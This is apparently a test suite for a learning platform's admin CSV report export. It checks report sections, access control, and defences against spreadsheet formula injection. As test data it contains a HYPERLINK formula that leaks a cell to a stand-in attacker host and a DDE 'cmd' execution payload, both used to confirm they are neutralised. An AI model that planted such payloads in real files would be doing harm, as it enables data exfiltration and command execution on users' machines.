import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { enrollments } from "../../learning/enrollments/enrollments.table";
import { csvField } from "../../lib/csv";
import { enroll } from "../../testing/courses";
import { parseCsv } from "../../testing/csv";
import {
  buildPublishedCourse,
  call,
  completeViaApi,
  enrollViaApi,
  quickAdmin,
  quickLearner,
  signInAs,
  useSharedVideo,
} from "../../testing/learning";
import { useTestApp } from "../../testing/test-app";

/** The records between a section title and the next blank line. */
function section(records: string[][], title: string): string[][] {
  const start = records.findIndex((r) => r.length === 1 && r[0] === title);
  expect(start, `section ${title}`).toBeGreaterThanOrEqual(0);
  const rest = records.slice(start + 1);
  const end = rest.findIndex((r) => r.length === 1 && r[0] === "");
  return end < 0 ? rest : rest.slice(0, end);
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

describe("CSV export", () => {
  const ctx = useTestApp();
  const videoPath = useSharedVideo(ctx);

  async function exportCsv(cookie: string) {
    const response = await call(ctx, "GET", "/api/admin/reports/export", { cookie });
    expect(response.statusCode).toBe(200);
    return response;
  }

  describe("csvField", () => {
    it("quotes separators and quotes, and neutralises formula triggers", () => {
      expect(csvField("plain")).toBe("plain");
      expect(csvField(42)).toBe("42");
      expect(csvField(0)).toBe("0");
      expect(csvField("a,b")).toBe('"a,b"');
      expect(csvField('say "hi"')).toBe('"say ""hi"""');
      expect(csvField("two\nlines")).toBe('"two\nlines"');
      for (const trigger of ["=", "+", "-", "@", "\t", "\r"]) {
        expect(csvField(`${trigger}1+1`).replace(/^"/, "")).toMatch(/^'/);
      }
      expect(csvField("=1+1")).toBe("'=1+1");
      expect(csvField(HYPERLINK)).toBe(`"'${HYPERLINK.replaceAll('"', '""')}"`);
      expect(csvField("")).toBe("");
    });
  });

  it("downloads the report as an attachment with every section and the right numbers", async () => {
    const cookie = await signInAs(ctx, await quickAdmin(ctx));
    const video = await videoPath(cookie);
    const sql101 = await buildPublishedCourse(ctx, cookie, {
      video,
      title: "SQL, joins and indexes",
      category: "Database",
      modules: 2,
    });
    const react = await buildPublishedCourse(ctx, cookie, {
      video,
      title: 'The "React" way',
      category: "Development",
      modules: 3,
    });
    const ann = await quickLearner(ctx, { name: "Ann", email: "ann@example.com" });
    const bob = await quickLearner(ctx, { name: "Bob", email: "bob@example.com" });
    await quickLearner(ctx, { name: "Cid", password: null });
    await enrollViaApi(ctx, cookie, ann.id, sql101.id);
    await enrollViaApi(ctx, cookie, ann.id, react.id);
    await enrollViaApi(ctx, cookie, bob.id, sql101.id);
    await completeViaApi(ctx, await signInAs(ctx, ann), ann.id, sql101, 2); // 100, completed
    await completeViaApi(ctx, await signInAs(ctx, bob), bob.id, sql101, 1); // 50
    const annCookie = await signInAs(ctx, ann);
    await completeViaApi(ctx, annCookie, ann.id, react, 1); // 33

    const response = await exportCsv(cookie);
    const today = new Date().toISOString().slice(0, 10);
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers["content-disposition"]).toMatch(
      new RegExp(`^attachment; filename="report-(${today}|\\d{4}-\\d{2}-\\d{2})\\.csv"$`),
    );
    expect(response.headers["cache-control"]).toBe("no-store");
    // Streamed: no length known up front.
    expect(response.headers["content-length"]).toBeUndefined();
    expect(response.body.startsWith("\ufeff")).toBe(true);
    expect(response.body.endsWith("\r\n")).toBe(true);

    const records = parseCsv(response.body.slice(1));
    expect(records[0]?.[0]).toBe("Report generated");
    expect(Number.isNaN(Date.parse(records[0]![1]!))).toBe(false);
    expect(section(records, "Summary")).toEqual([
      [
        "Total Learners",
        "Total Enrollments",
        "Completions",
        "Completion Rate (%)",
        "Avg. Progress (%)",
      ],
      // 3 learners; 3 enrollments, 1 completed (33%); (100 + 50 + 33) / 3 = 61
      ["3", "3", "1", "33", "61"],
    ]);
    expect(section(records, "Course Performance")).toEqual([
      [
        "Course",
        "Category",
        "Enrollments",
        "Completions",
        "Completion Rate (%)",
        "Avg. Progress (%)",
      ],
      // (100 + 50) / 2 = 75
      ["SQL, joins and indexes", "Database", "2", "1", "50", "75"],
      ['The "React" way', "Development", "1", "0", "0", "33"],
    ]);
    expect(section(records, "Category Performance")).toEqual([
      [
        "Category",
        "Courses",
        "Enrollments",
        "Completions",
        "Completion Rate (%)",
        "Avg. Progress (%)",
      ],
      ["Development", "1", "1", "0", "0", "33"],
      ["Database", "1", "2", "1", "50", "75"],
      ["Mobile", "0", "0", "0", "0", "0"],
      ["Design", "0", "0", "0", "0", "0"],
    ]);
    const recent = section(records, "Recent Completions");
    expect(recent[0]).toEqual(["Learner", "Email", "Course", "Completed At"]);
    expect(recent.slice(1).map((r) => r.slice(0, 3))).toEqual([
      ["Ann", "ann@example.com", "SQL, joins and indexes"],
    ]);
    const [stored] = await ctx.database.db
      .select()
      .from(enrollments)
      .where(eq(enrollments.isCompleted, true));
    expect(recent[1]?.[3]).toBe(stored?.completedAt?.toISOString());

    // The CSV and the Reports page tell the same story.
    const reports = (await call(ctx, "GET", "/api/admin/reports", { cookie })).json();
    expect(section(records, "Summary")[1]).toEqual([
      String(reports.summary.totalLearners),
      String(reports.summary.totalEnrollments),
      String(reports.summary.completions),
      String(reports.summary.completionRate),
      String(reports.summary.avgProgress),
    ]);
  });

  it("exports an empty report with zeros, all four categories and empty lists", async () => {
    const cookie = await signInAs(ctx, await quickAdmin(ctx));
    const records = parseCsv((await exportCsv(cookie)).body.slice(1));
    expect(section(records, "Summary")[1]).toEqual(["0", "0", "0", "0", "0"]);
    expect(section(records, "Course Performance")).toHaveLength(1);
    expect(section(records, "Category Performance").slice(1)).toEqual(
      ["Development", "Database", "Mobile", "Design"].map((c) => [c, "0", "0", "0", "0", "0"]),
    );
    expect(section(records, "Recent Completions")).toHaveLength(1);
    expect((await exportCsv(cookie)).body).not.toMatch(/NaN|undefined|null/);
  });

  it("neutralises formula injection in course titles and learner names", async () => {
    const cookie = await signInAs(ctx, await quickAdmin(ctx));
    const video = await videoPath(cookie);
    const evil = await buildPublishedCourse(ctx, cookie, { video, title: HYPERLINK });
    const learner = await quickLearner(ctx, {
      name: "@SUM(1+1)*cmd|' /C calc'!A0",
      email: "evil@example.com",
      password: null,
    });
    const other = await quickLearner(ctx, { name: "+1-1", password: null });
    for (const l of [learner, other]) {
      const row = await enroll(ctx, l.id, evil.id);
      await ctx.database.db
        .update(enrollments)
        .set({ progress: 100, isCompleted: true, completedAt: new Date() })
        .where(eq(enrollments.id, row.id));
    }
    const body = (await exportCsv(cookie)).body;
    const records = parseCsv(body.slice(1));
    // No cell starts with a character a spreadsheet would evaluate.
    for (const record of records) {
      for (const cell of record) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(section(records, "Course Performance")[1]?.[0]).toBe(`'${HYPERLINK}`);
    const names = section(records, "Recent Completions")
      .slice(1)
      .map((r) => [r[0], r[2]]);
    expect(names).toContainEqual([`'@SUM(1+1)*cmd|' /C calc'!A0`, `'${HYPERLINK}`]);
    expect(names).toContainEqual(["'+1-1", `'${HYPERLINK}`]);
    // The title still reads the same once the guard character is dropped.
    expect(body).not.toContain(`,${HYPERLINK}`);
  });

  it("is refused to anonymous users (401) and learners (403), with no file", async () => {
    const learner = await quickLearner(ctx);
    const learnerCookie = await signInAs(ctx, learner);
    const anonymous = await call(ctx, "GET", "/api/admin/reports/export");
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.headers["content-disposition"]).toBeUndefined();
    const asLearner = await call(ctx, "GET", "/api/admin/reports/export", {
      cookie: learnerCookie,
    });
    expect(asLearner.statusCode).toBe(403);
    expect(asLearner.headers["content-disposition"]).toBeUndefined();
    expect(asLearner.headers["content-type"]).toMatch(/^application\/json/);
  });
});
